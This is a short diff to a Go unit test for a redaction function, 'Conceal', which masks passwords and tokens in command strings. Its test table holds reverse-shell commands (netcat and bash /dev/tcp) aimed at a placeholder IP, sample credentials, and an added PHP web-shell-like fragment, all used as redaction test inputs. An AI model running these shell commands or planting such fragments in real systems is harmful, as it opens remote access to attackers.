@@ -139,6 +139,7 @@ func TestConceal(t *testing.T) {
 		"nc -e /bin/sh 198.18.7.7 4444":                                      "nc -e /bin/sh 198.18.7.7 4444",
 		"curl -u me:hun" + "ter2x! https://me:hunter2x!@files.example.net/x": "curl -u … https://files.example.net",
 		"tool --token=korrekt-Pferd.Batterie9 -p abc -p 80 PASS=Abcdefgh12":  "tool --token=… -p … -p 80 …",
+		`f($_GET['x'], file_get_contents("korrekt9Pferd"));`:                 `f($_GET['x file_get_contents("…`,
 		"bash -i >& /dev/tcp/198.18.7.7/4444 0>&1":                           "bash -i >& /dev/tcp/198.18.7.7/4444 0>&1",
 	} {
 		if got := rules.Conceal(text); got != want {
